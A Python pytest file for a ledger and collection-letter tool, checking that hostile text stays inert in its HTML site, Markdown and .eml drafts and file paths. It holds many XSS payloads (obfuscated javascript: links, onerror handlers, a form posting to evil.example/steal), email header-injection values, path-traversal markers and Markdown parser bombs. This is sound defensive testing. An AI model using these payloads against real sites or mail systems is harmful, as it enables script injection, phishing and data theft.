"""Hostile text in the ledger stays text: in the site, in the letters (HTML, Markdown,
.eml) and in file names.

Notes are Markdown written by many hands and the site is published; names, addresses and
free-text fields are typed by anyone with commit access; ids end up in paths. Whatever
they hold, no script runs, no markup or header is injected, and no file is written
outside the output folder.
"""

from __future__ import annotations

import email
import email.policy
import re
import time
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from seckit import AS_OF, write_ledger

from collect.render.notes_html import ATTRIBUTES, TAGS, note_html
from collect.render.paths import slug

# ------------------------------------------------------------------ a checker for HTML


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict]] = []
        self.comments: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag

    def handle_comment(self, data):
        self.comments.append(data)


def elements(html: str) -> _Elements:
    parser = _Elements()
    parser.feed(html)
    parser.close()
    return parser


SAFE_HREF = re.compile(r"(https?://|mailto:)", re.I)


def assert_inert_note(html: str) -> None:
    """Only allow-listed tags and attributes, and links only to absolute web or mail URLs."""
    found = elements(html)
    assert not found.comments, found.comments
    for tag, attrs in found.elements:
        assert tag in TAGS, (tag, html)
        allowed = ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set())
        assert set(attrs) <= allowed, (tag, attrs)
        if "href" in attrs:
            assert SAFE_HREF.match(attrs["href"]), attrs["href"]
            assert not re.search(r"javascript|vbscript|data:", attrs["href"], re.I), attrs["href"]


# ------------------------------------------------------------------ note Markdown

NOTE_PAYLOADS = {
    "script": "<script>window.__pwned=1</script>",
    "iframe": '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe>',
    "form": '<form action="https://evil.example/steal"><input name="pw"><button formaction="javascript:alert(1)">go'
            "</button></form>",
    "svg-onload": '<svg onload="alert(1)"><script>alert(2)</script></svg>',
    "math-style-mxss": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph>",
    "mixed-case-scheme": '<a href="JaVaScRiPt:alert(1)">x</a> [y](JaVaScRiPt:alert(1))',
    "entity-encoded-scheme": '<a href="&#106;avascript:alert(1)">x</a> <a href="&#x6A;avascript&#58;alert(1)">y</a>',
    "entity-in-markdown-link": "[x](&#106;avascript:alert(1)) [y](javascript&colon;alert(1))",
    "control-characters-in-scheme": '<a href="java&#9;script:alert(1)">a</a> <a href="jav&#x0D;ascript:alert(1)">b</a>'
                                    ' <a href="&#0;javascript:alert(1)">c</a> <a href=" javascript:alert(1)">d</a>',
    "img-data": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"> ![a](data:image/png;base64,AA)',
    "img-onerror": '<img src=x onerror="alert(1)"> ![alt" onerror="alert(1)](https://ok.example/x.png)',
    "style": "<style>body{display:none}</style><p style=\"background:url(https://evil.example)\">s</p>",
    "autolink-javascript": "<javascript:alert(1)> <vbscript:msgbox(1)> <data:text/html,x>",
    "reference-link": "[click][evil] and ![img][evil]\n\n[evil]: javascript:alert(1)",
    "reference-link-with-title": '[click][evil]\n\n[evil]: javascript:alert(1) "t"',
    "html-comment": "<!-- <script>alert(1)</script> --> after <!--[if IE]><script>alert(2)</script><![endif]-->",
    "base-href": '<base href="https://evil.example/">',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "object-embed-link": '<object data="x.swf"></object><embed src="x"><link rel=stylesheet href="https://e.example/x.css">',
    "other-schemes": "[v](vbscript:msgbox(1)) [f](file:///etc/passwd) [s](//evil.example/x) [r](../../ledger/company.yaml)",
    "handlers-on-allowed-tags": '<a href="https://ok.example" onclick="alert(1)" onmouseover="alert(2)">k</a>'
                                '<p onclick="x">p</p><td onmouseover="y">t</td>',
    "noscript-breakout": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "textarea-breakout": "<textarea></textarea><img src=x onerror=alert(1)>",
    "template": "<template><script>alert(1)</script></template>",
    "title-attribute-breakout": '[x](https://ok.example "\\" onmouseover=\\"alert(1))',
    "unicode-in-scheme": '<a href="ja\u200bvascript:alert(1)">o</a> <a href="javascript\t:alert(1)">p</a>',
}


@pytest.mark.parametrize("name", sorted(NOTE_PAYLOADS))
def test_note_markdown_is_sanitised(name):
    html = note_html("Before.\n\n" + NOTE_PAYLOADS[name] + "\n\nAfter.")
    assert_inert_note(html)
    assert "Before." in html  # (what follows an unclosed raw HTML block may go with it)


def test_web_and_mail_links_survive_sanitising():
    html = note_html("[doc](https://example.com/a?b=1) <https://ok.example> <mailto:ap@acme.example>")
    links = [attrs["href"] for tag, attrs in elements(html).elements if tag == "a"]
    assert links == ["https://example.com/a?b=1", "https://ok.example", "mailto:ap@acme.example"]


def test_a_reference_defined_in_one_note_does_not_reach_the_next():
    """The converter is reused between notes: its link references must not be."""
    first = note_html("[ok][ref]\n\n[ref]: https://first.example")
    second = note_html("[ok][ref]")
    assert "https://first.example" in first
    assert "first.example" not in second and "href" not in second


BOMBS = {
    "unclosed-brackets": "[" * 50_000,
    "brackets-then-text": "[" * 400 + "a" * 15_000,
    "autolink-openers": "<http://" * 20_000,
    "image-openers": "![" * 10_000,
    "backtick-fences": "```\\" * 4_000,
    "inline-nested-lists": "- " * 3_000 + "x",
    "inline-nested-ordered-lists": "1. " * 3_000 + "x",
    "indented-nested-lists": "".join("    " * i + "- a\n" for i in range(600)),
    "headings": "#-\n" * 20_000,
    "long-note": "A long call record. " * 20_000,
}


@pytest.mark.parametrize("name", sorted(BOMBS))
def test_a_note_that_would_make_markdown_slow_or_recurse_renders_fast_as_text(name):
    start = time.perf_counter()
    html = note_html(BOMBS[name])
    assert time.perf_counter() - start < 2, name
    assert_inert_note(html)


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.sampled_from(list("[]()<>!*_`~#-+|:\\&;\"'= \n\t/.aj") + [
    "javascript:", "http://", "<a href=", "<img src=", "onerror=", "<script>", "&#", "-->", "<!--", "```",
    "data:", "//", "[r]: ", "<svg ", "\n\n", "    ", "1. "]), max_size=120).map("".join))
def test_any_note_renders_inert(body):
    assert_inert_note(note_html(body))


# ------------------------------------------------------------------ the site and the letters

XSS = '<script>window.__pwned=1</script>"><img src=x onerror=alert(1)>'
COMPANY = """\
name: 澄远贸易
legal_name: 上海澄远贸易有限公司
currency: CNY
language: en
jurisdiction: cn
bank: {name: 招商银行, account_no: "1219 0888"}
contact: {email: ar@chengyuan.example.cn, phone: "+86 21 0000 0000"}
"""
POLICY = "ladder:\n  - {step: reminder, after_days: 1, letter: reminder}\n  - {step: demand, after_days: 31, letter: demand}\n"


SPLIT = {"split-crlf": "\r\n", "split-ls": "\u2028", "split-nel": "\u0085"}


def _q(text: str) -> str:
    """A YAML double-quoted scalar."""
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n").replace("\r", "\\r") \
        .replace("\u2028", "\\L").replace("\u0085", "\\N") + '"'


def hostile_ledger(root: Path) -> Path:
    """A ledger whose every free-text field carries markup, line breaks and header text."""
    return write_ledger(root, {
        "company.yaml": COMPANY,
        "policy.yaml": POLICY,
        "customers/evil.yaml": (
            "id: evil\n"
            f"name: {_q('Evil ' + XSS + chr(10) + '# INJECTED heading')}\n"
            f"legal_name: {_q('Evil Ltd ' + XSS + chr(10) + '> INJECTED quote | a | b |')}\n"
            f"address: {_q('1 Road' + chr(10) + chr(10) + '## INJECTED' + chr(10) + '<iframe src=x>')}\n"
            f"owner: {_q('Mal' + XSS)}\n"
            "contacts:\n"
            f"  - name: {_q('Zed' + chr(13) + chr(10) + 'Bcc: bcc@evil.example' + chr(0x2028) + 'Cc: cc@evil.example' + chr(0x85) + 'X-Injected: 1 ' + XSS)}\n"
            "    email: zed@evil.example\n"
            "    primary: true\n"
        ),
        "customers/held.yaml": (
            f"id: held\nname: Held Co\nhold: {{reason: {_q('HOLD ' + XSS)}, until: 2027-01-01}}\n"
            "contacts: [{name: Ann, email: ann@held.example, primary: true}]\n"
        ),
        # e-mail addresses with a line break (CR LF, U+2028, U+0085) and a header after it
        **{f"customers/{cid}.yaml": (
            f"id: {cid}\nname: Split Co\n"
            f"contacts:\n  - {{name: Bob, email: {_q('bob@split.example' + brk + 'Bcc: x@evil.example')}, primary: true}}\n"
        ) for cid, brk in SPLIT.items()},
        "invoices/2026.yaml": (
            f"- {{number: EV/2026/1, customer: evil, issued: 2026-01-01, due: 2026-02-01, amount: 1000,"
            f" description: {_q('DESC ' + XSS)}, contract: {_q('C|1' + chr(10) + '# INJECTED')}, po: {_q('PO ' + XSS)}}}\n"
            f"- {{number: EV/2026/2, customer: evil, issued: 2026-01-01, due: 2026-02-01, amount: 500,"
            f" dispute: {{opened: 2026-03-01, reason: quality, note: {_q('DISPUTE ' + XSS)}}}}}\n"
            "- {number: HE-1, customer: held, issued: 2026-01-01, due: 2026-02-01, amount: 300}\n"
            + "".join(f"- {{number: SP-{cid}, customer: {cid}, issued: 2026-01-01, due: 2026-02-01, amount: 200}}\n"
                      for cid in SPLIT)
        ),
        "notes/evil/2026-10-01.md": (
            "---\ndate: 2026-10-01\ncustomer: evil\nchannel: phone\n"
            f"contact: {_q('CONTACT ' + XSS)}\ntitle: {_q('TITLE ' + XSS)}\n"
            f"next: {{date: 2026-11-01, action: {_q('NEXT ' + XSS)}}}\n---\n"
            + "\n\n".join(NOTE_PAYLOADS.values()) + "\n"
        ),
    })


def _site_elements(page: Path):
    return elements(page.read_text(encoding="utf-8")).elements


def assert_escaped_page(page: Path) -> None:
    text = page.read_text(encoding="utf-8")
    for tag, attrs in _site_elements(page):
        assert tag not in ("img", "iframe", "object", "embed", "base", "math", "style"), (page.name, tag)
        assert tag != "form" or "action" not in attrs, (page.name, attrs)  # the customer list's filters
        assert not [a for a in attrs if a.startswith("on")], (page.name, tag, attrs)
        if tag == "script":
            assert attrs.get("src", "").endswith("assets/app.js"), (page.name, attrs)
        if tag == "meta" and attrs.get("http-equiv", "").lower() == "refresh":
            pytest.fail(f"{page.name}: meta refresh")
        for name in ("href", "src", "action"):
            assert not re.match(r"\s*(javascript|data|vbscript):", attrs.get(name, ""), re.I), (page.name, attrs)
    assert "window.__pwned" not in text.replace("&lt;script&gt;window.__pwned", "")


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory):
    from sitekit import build

    root = tmp_path_factory.mktemp("hostile")
    ledger = hostile_ledger(root / "ledger")
    result = build(ledger, root / "site", as_of=AS_OF)
    assert result.exit_code == 0, result.output
    return root / "site"


@pytest.mark.parametrize("page", ["customers/evil.html", "customers/held.html", "customers.html", "worklist.html",
                                  "index.html", "disputes.html", "letters.html", "aging.html", "quality.html"])
def test_hostile_text_is_escaped_on_every_page(hostile_site, page):
    assert_escaped_page(hostile_site / page)


def test_hostile_fields_appear_as_text(hostile_site):
    evil = (hostile_site / "customers" / "evil.html").read_text(encoding="utf-8")
    for marker in ("DISPUTE", "NEXT", "CONTACT"):
        assert f"{marker} &lt;script&gt;window.__pwned=1&lt;/script&gt;&#34;&gt;&lt;img" in evil \
            or f"{marker} &lt;script&gt;window.__pwned=1&lt;/script&gt;&quot;&gt;&lt;img" in evil, marker
    held = (hostile_site / "customers" / "held.html").read_text(encoding="utf-8")
    assert "HOLD &lt;script&gt;" in held
    worklist = (hostile_site / "worklist.html").read_text(encoding="utf-8")
    assert "Mal&lt;script&gt;" in worklist


@pytest.fixture(scope="module")
def hostile_letters(tmp_path_factory):
    from click.testing import CliRunner

    from collect.cli import main

    root = tmp_path_factory.mktemp("hostile-letters")
    ledger = hostile_ledger(root / "ledger")
    out = root / "out"
    made = {}
    for letter_type in ("statement", "demand", "reminder"):
        result = CliRunner().invoke(main, ["--ledger", str(ledger), "--as-of", AS_OF, "letters", "--out",
                                           str(out / letter_type), "--type", letter_type], catch_exceptions=False)
        assert result.exit_code == 0, result.output
        made[letter_type] = out / letter_type / "letters"
    return made


def _drafts(hostile_letters, suffix: str) -> list[Path]:
    found = sorted(p for folder in hostile_letters.values() for p in folder.rglob(f"*{suffix}"))
    assert found
    return found


def test_letter_html_is_escaped_and_carries_a_strict_csp(hostile_letters):
    for page in _drafts(hostile_letters, ".html"):
        assert_escaped_page(page)
        metas = [a for t, a in _site_elements(page) if t == "meta"]
        csp = [m["content"] for m in metas if m.get("http-equiv", "").lower() == "content-security-policy"]
        assert len(csp) == 1, page
        assert "default-src 'none'" in csp[0] and "script-src" not in csp[0], csp
        assert not [t for t, _ in _site_elements(page) if t == "script"], page


def test_ledger_text_cannot_break_the_markdown_letter(hostile_letters):
    for draft in _drafts(hostile_letters, ".md"):
        lines = draft.read_text(encoding="utf-8").splitlines()
        headings = [line for line in lines if line.startswith("#")]
        assert not [h for h in headings if "INJECTED" in h], (draft, headings)
        for line in lines:
            if "INJECTED" in line or "Evil" in line or "Zed" in line:
                assert not re.match(r"\s*(#|>|\d+[.)]\s|[-+*]\s|<iframe)", line), (draft.name, line)
            assert "Bcc:" not in line or not line.startswith("Bcc:"), line
        table: list[int] = []
        for line in lines + [""]:
            if line.startswith("|"):
                table.append(len(re.findall(r"(?<!\\)\|", line)))
            elif table:
                assert len(set(table)) == 1, (draft.name, table)  # every row has the header's columns
                table = []


def test_ledger_text_cannot_add_a_header_to_the_eml_draft(hostile_letters):
    expected = {"From", "To", "Subject", "Date", "Message-ID", "X-Unsent", "X-Collect-Letter", "MIME-Version",
                "Content-Type"}
    drafts = _drafts(hostile_letters, ".eml")
    assert set(SPLIT) | {"evil"} <= {d.parent.name for d in drafts}
    for draft in drafts:
        raw = draft.read_bytes()
        head = raw.split(b"\r\n\r\n", 1)[0]
        msg = email.message_from_bytes(raw, policy=email.policy.default)
        assert set(msg.keys()) <= expected, (draft, msg.keys())
        assert msg["Bcc"] is None and msg["Cc"] is None and msg["X-Injected"] is None
        for name, value in msg.items():
            assert not re.search(r"[\r\n\u2028\u2029\x85]", str(value)), (name, value)
        assert not re.search(rb"\r\n(Bcc|Cc|X-Injected):", head)
        to = msg["To"]
        if draft.parent.name in SPLIT:
            assert to is None  # a broken address is left out, not passed on
        elif "evil" in draft.parts:
            assert [a.addr_spec for a in to.addresses] == ["zed@evil.example"]


# ------------------------------------------------------------------ ids in paths

ODD_IDS = ["CON", "a.b", "-x", "_", "0", "x" * 200, "NUL.txt", "a-.-b"]


def test_odd_but_valid_ids_stay_inside_the_output(tmp_path):
    from click.testing import CliRunner

    from collect.cli import main

    files = {"company.yaml": COMPANY, "policy.yaml": POLICY}
    for i, cid in enumerate(ODD_IDS):
        files[f"customers/{cid}.yaml"] = f"id: {_q(cid)}\nname: C{i}\ncontacts: [{{name: P, email: p{i}@x.example}}]\n"
        files[f"invoices/{i}.yaml"] = (f"number: {_q(f'{cid}/2026/0{i}')}\n"
                                       f"customer: {_q(cid)}\nissued: 2026-01-01\ndue: 2026-02-01\namount: 100\n")
    ledger = write_ledger(tmp_path / "ledger", files)
    work = tmp_path / "work"
    work.mkdir()
    runner = CliRunner()
    base = ["--ledger", str(ledger), "--as-of", AS_OF]
    assert runner.invoke(main, [*base, "check"]).exit_code == 0
    result = runner.invoke(main, [*base, "build", "--out", str(work / "site")], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    result = runner.invoke(main, [*base, "letters", "--out", str(work / "drafts"), "--type", "statement"],
                           catch_exceptions=False)
    assert result.exit_code == 0, result.output
    assert sorted(p.name for p in work.iterdir() if not p.name.endswith(".lock")) == ["drafts", "site"]
    letters = work / "drafts" / "letters"
    assert sorted(p.name for p in letters.iterdir() if p.is_dir()) == sorted(slug(c) for c in ODD_IDS)
    for cid in ODD_IDS:
        assert (work / "site" / "customers" / f"{slug(cid)}.html").is_file()
        assert sorted(p.suffix for p in (letters / slug(cid)).iterdir()) == [".eml", ".html", ".md"]
    for path in work.rglob("*"):
        assert path.resolve().is_relative_to(work.resolve())
        assert len(path.name.encode()) <= 255
    # the site links every letter and page it wrote, and nothing outside
    for page in (work / "site").rglob("*.html"):
        for tag, attrs in _site_elements(page):
            href = attrs.get("href")
            if tag == "a" and href and not href.startswith(("#", "https://", "mailto:")):
                target = (page.parent / href.split("#")[0]).resolve()
                assert target.is_relative_to((work / "site").resolve()) and target.exists(), (page, href)


def test_a_note_for_an_id_that_looks_like_an_option(tmp_path):
    """``collect note -- -x``: the note lands in notes/-x/, inside the ledger."""
    from click.testing import CliRunner

    from collect.cli import main

    ledger = write_ledger(tmp_path / "ledger", {
        "company.yaml": COMPANY, "customers/-x.yaml": "id: \"-x\"\nname: X\ncontacts: [{name: P}]\n"})
    result = CliRunner().invoke(main, ["--ledger", str(ledger), "--as-of", AS_OF, "note", "--channel", "phone",
                                       "--", "-x"], env={"USER": "tester"}, catch_exceptions=False)
    assert result.exit_code == 0, result.output
    assert [p.relative_to(ledger).as_posix() for p in (ledger / "notes").rglob("*.md")] == [
        f"notes/-x/{AS_OF}-phone.md"]


def test_a_forged_letter_marker_cannot_name_the_note_file(tmp_path):
    """``collect note --letter`` takes the letter type from the draft's marker: a draft
    edited to say ``"type": "../../x"`` is refused, not written outside notes/."""
    from click.testing import CliRunner

    from collect.cli import main

    ledger = write_ledger(tmp_path / "ledger", {
        "company.yaml": COMPANY, "customers/acme.yaml": "id: acme\nname: A\ncontacts: [{name: P}]\n"})
    forged = tmp_path / "forged.md"
    for marker in ('{"customer":"acme","type":"/../../../../pwned","date":"2026-11-22","ref":"R","invoices":[]}',
                   '{"customer":"acme","type":"demand\\nprivate: true","date":"2026-11-22","ref":"R","invoices":[]}',
                   '{"customer":"acme","type":"demand","date":"2026-11-22","ref":"R\\n---","invoices":[]}',
                   '{"customer":"acme","type":"demand","date":"2026-11-22","ref":"R","invoices":' + "[" * 100_000 + "}"):
        forged.write_text(f"<!-- collect-letter: {marker} -->\n", encoding="utf-8")
        result = CliRunner().invoke(main, ["--ledger", str(ledger), "--as-of", AS_OF, "note", "acme", "--letter",
                                           str(forged)], env={"USER": "tester"}, catch_exceptions=False)
        assert result.exit_code == 2, result.output
        assert "not a letter draft" in result.output
    assert not (ledger / "notes").exists() and not list(tmp_path.rglob("*pwned*"))


# ------------------------------------------------------------------ links out of the ledger


def test_a_linked_notes_folder_is_refused_and_its_notes_never_published(tmp_path):
    from sitekit import build

    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "n.md").write_text("---\ndate: 2026-10-01\ncustomer: acme\nchannel: phone\n---\nOUTSIDE-SECRET\n")
    ledger = write_ledger(tmp_path / "ledger", {
        "company.yaml": COMPANY, "customers/acme.yaml": "id: acme\nname: A\ncontacts: [{name: P}]\n"})
    (ledger / "notes").mkdir()
    (ledger / "notes" / "acme").symlink_to(elsewhere, target_is_directory=True)
    (ledger / "notes" / "loop").symlink_to(ledger / "notes" / "loop2")
    (ledger / "notes" / "loop2").symlink_to(ledger / "notes" / "loop")
    result = build(ledger, tmp_path / "site", "--keep-going")
    assert result.exit_code == 1
    quality = (tmp_path / "site" / "quality.html").read_text(encoding="utf-8")
    assert quality.count("E012") == 3 and "outside the ledger" in quality and "itself" in quality
    everything = "".join(p.read_text(encoding="utf-8", errors="replace") for p in (tmp_path / "site").rglob("*")
                         if p.is_file())
    assert "OUTSIDE-SECRET" not in everything


# ------------------------------------------------------------------ a real browser

BROWSER_SCRIPT = r"""
import json, sys
from pathlib import Path
from playwright.sync_api import sync_playwright

site = Path(sys.argv[1])
pages = [site / "customers" / "evil.html", site / "customers.html", site / "worklist.html", site / "index.html",
         site / "disputes.html"] + sorted(Path(sys.argv[2]).rglob("*.html"))
report = {"pwned": [], "dialogs": [], "requests": [], "errors": []}
with sync_playwright() as p:
    browser = p.chromium.launch(executable_path="/usr/bin/chromium",
                                args=["--no-sandbox", "--disable-gpu", "--disable-background-networking"])
    page = browser.new_page()
    page.set_default_timeout(3000)
    page.on("dialog", lambda d: (report["dialogs"].append(d.message), d.dismiss()))
    page.on("request", lambda r: report["requests"].append(r.url))
    page.on("pageerror", lambda e: report["errors"].append(str(e)))
    for target in pages:
        page.goto(target.as_uri())
        for link in page.locator(".timeline a, .body a").all():
            try:
                link.click(timeout=500, no_wait_after=True)
            except Exception:
                pass
            if page.url != target.as_uri():
                page.goto(target.as_uri())
        page.mouse.move(10, 10)
        if page.evaluate("typeof window.__pwned") != "undefined":
            report["pwned"].append(str(target))
    browser.close()
print(json.dumps(report))
"""


def test_the_hostile_site_and_letters_run_no_script_in_chromium(hostile_site, hostile_letters, tmp_path):
    import json
    import subprocess
    import sys

    script = tmp_path / "browse.py"
    script.write_text(BROWSER_SCRIPT, encoding="utf-8")
    done = subprocess.run([sys.executable, str(script), str(hostile_site), str(hostile_letters["demand"])],
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr[-3000:]
    report = json.loads(done.stdout.strip().splitlines()[-1])
    assert report["pwned"] == [] and report["dialogs"] == [], report
    outside = [u for u in report["requests"] if not u.startswith(("file://", "about:", "data:"))]
    assert outside == [], outside
